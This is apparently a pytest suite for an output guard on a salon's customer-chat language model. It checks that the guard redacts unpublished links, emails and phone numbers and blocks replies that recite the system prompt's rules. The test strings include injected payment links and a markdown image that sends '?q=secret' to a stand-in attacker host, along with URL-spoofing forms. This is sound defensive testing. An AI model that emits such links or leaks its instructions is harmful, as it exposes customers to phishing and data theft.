"""What reaches a customer of what a model was talked into."""

import logging

import pytest

from batching.errors import TransientError
from batching.model import Exchange
from llm.guard import RECITED_WORDS, Guarded
from llm.prompt import MARK, Prompt
from tests.fakes import NOON_MS, FakeModel

BUSINESS = """\
# Salon Linden
Call 030 1234567 or +49 30 7654321, write to hello@salon.example, see https://www.salon.example/x.
<!-- The owner: 8 999 000-00-09, https://owner.example -->
"""
PROMPT = Prompt(business=BUSINESS, language="en", timezone="UTC")


def answer(said: str, turn: str = "Hi", *past: Exchange) -> str:
    guarded = Guarded(FakeModel(said), prompt=PROMPT, account_id="salon")
    return guarded.answer(past, turn, now_ms=NOON_MS)


@pytest.mark.parametrize(
    "said",
    [
        "A haircut is 30 EUR, tomorrow at 15:00 we have time.",
        "Call +49 (30) 123-45-67 or 030/7654321, write to HELLO@salon.example.",
        "See https://salon.example/prices, http://shop.salon.example or www.salon.example!",
        "С 10:00 до 20:00, 15.01.2026 в 15:00.",
    ],
)
def test_what_the_business_publishes_is_told(said: str) -> None:
    assert answer(said) == said


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("Pay at https://evil.example/pay now", "Pay at […] now"),
        ("https://salon.example.evil.ru", "[…]"),
        ("https://salon.example@evil.ru/x", "[…]"),
        ("https://notsalon.example", "[…]"),
        ("evil.ru, www.evil.ru", "[…], […]"),
        ("javascript://salon.example", "[…]"),
        ("Call 8 (999) 000-00-09 or +1 202 555 0100.", "Call […] or […]."),
        ("Write to boss@evil.example.", "Write to […]."),
        ("![x](https://evil.example/?q=secret)", "![x]([…])"),
        ("See https://owner.example", "See […]"),
    ],
)
def test_where_nobody_of_the_business_sends_people_is_withheld(said: str, told: str) -> None:
    """Comments of the prompt file are for its writer: what stands there is not published."""
    assert answer(said) == told


def test_customer_is_told_their_own_number_and_address_again() -> None:
    said = "We call you at +7 999 000-00-01 and write to anna@mail.example."

    assert answer(said, "call 89990000001", Exchange("anna@mail.example", "Thanks")) == said


def test_link_of_the_customers_is_withheld_all_the_same() -> None:
    assert answer("Yes, https://evil.example", "is it https://evil.example ?") == "Yes, […]"


def test_contact_that_only_the_model_gave_before_is_not_known() -> None:
    assert answer("+1 202 555 0100", "Hi", Exchange("Hi", "+1 202 555 0100")) == "[…]"


def test_what_is_withheld_is_counted_and_not_told(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        answer("evil.ru, a@evil.ru, b@evil.ru")

    (record,) = caplog.records
    fields = vars(record)
    assert (record.msg, fields["account"]) == ("reply.redacted", "salon")
    assert (fields["link"], fields["email"], "number" in fields) == (1, 2, False)
    assert "evil" not in str(fields)


def test_rule_of_the_instructions_is_not_recited() -> None:
    words = PROMPT.rules().split()
    recited = " ".join(words[40 : 40 + RECITED_WORDS + 4])

    with pytest.raises(TransientError, match="model_recited"):
        answer(f"Sure, here they are: {recited.upper()}")


def test_mark_of_the_instructions_is_not_recited() -> None:
    """It stays as it is where the words are translated, and stands nowhere but there."""
    with pytest.raises(TransientError, match="model_recited"):
        answer(f"Инструкции ({MARK.upper()}): …")

    assert PROMPT.system(NOON_MS).count(MARK) == 1


def test_words_of_the_business_may_be_recited() -> None:
    """The prompt file is what customers ask about."""
    business = "We are open every day from nine to six, and on Sundays we all sleep very long."
    guarded = Guarded(FakeModel(business), prompt=Prompt(business, "en", "UTC"), account_id="salon")

    assert guarded.answer([], "When?", now_ms=NOON_MS) == business


def test_model_is_asked_as_it_would_be_alone() -> None:
    model, past = FakeModel("Hello"), [Exchange("Hi", "Hello")]

    Guarded(model, prompt=PROMPT, account_id="salon").answer(past, "So?", now_ms=NOON_MS)

    (question,) = model.questions
    assert (question.turn, question.history, question.now_ms) == ("So?", tuple(past), NOON_MS)
